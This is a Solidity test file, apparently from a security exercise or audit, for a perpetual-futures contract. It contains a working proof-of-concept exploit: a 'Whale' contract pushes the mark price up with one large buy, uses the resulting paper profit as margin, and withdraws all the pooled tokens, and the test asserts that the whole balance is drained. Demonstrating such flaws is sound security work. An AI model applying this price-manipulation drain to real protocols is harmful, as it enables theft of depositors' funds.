// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Perpetual} from "../perp-mark/src/Perpetual.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";

interface Vm {
    function startPrank(address sender) external;
    function stopPrank() external;
}

/// Buys so much that its own gain on paper is margin enough, and takes out all guineas that there are.
contract Whale {
    function run(Perpetual perpetual, Token guinea) external {
        // 150000 barrels of the curve's 300000 bring the mark from 80 to 320 guineas, at 160 on average.
        perpetual.buy(150_000 ether, type(uint256).max);
        perpetual.withdraw(guinea.balanceOf(address(perpetual)));
    }
}

contract PerpMarkTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant CAROL = address(0xCA401);

    event Profit(uint256 guineas);

    Token private guinea;
    Perpetual private perpetual;
    Whale private whale;

    function setUp() public {
        guinea = new Token("Guinea", "GNA");
        Feed feed = new Feed(8, 80e8, address(this));
        perpetual = new Perpetual(guinea, feed, 24_000_000 ether, 300_000 ether);
        whale = new Whale();
        guinea.mint(address(this), 250_000 ether);
        guinea.mint(ALICE, 1_700_000 ether);
        guinea.mint(BOB, 1_300_000 ether);
        guinea.mint(CAROL, 600_000 ether);
        guinea.mint(address(whale), 30_000 ether);
        guinea.approve(address(perpetual), 1e60);
        perpetual.insure(250_000 ether);
        _deposit(ALICE, 1_400_000 ether);
        perpetual.buy(12_000 ether, 1_010_000 ether);
        vm.stopPrank();
        _deposit(BOB, 1_100_000 ether);
        perpetual.sell(12_000 ether, 990_000 ether);
        vm.stopPrank();
        _deposit(CAROL, 350_000 ether);
        vm.stopPrank();
    }

    function _deposit(address who, uint256 amount) private {
        vm.startPrank(who);
        guinea.approve(address(perpetual), 1e60);
        perpetual.deposit(amount);
    }

    function test_attack_pays() public {
        require(perpetual.mark() == 80 ether, "another set-up");
        whale.run(perpetual, guinea);
        uint256 profit = guinea.balanceOf(address(whale)) - 30_000 ether;
        emit Profit(profit);
        require(profit == 3_100_000 ether, "less than all");
    }
}
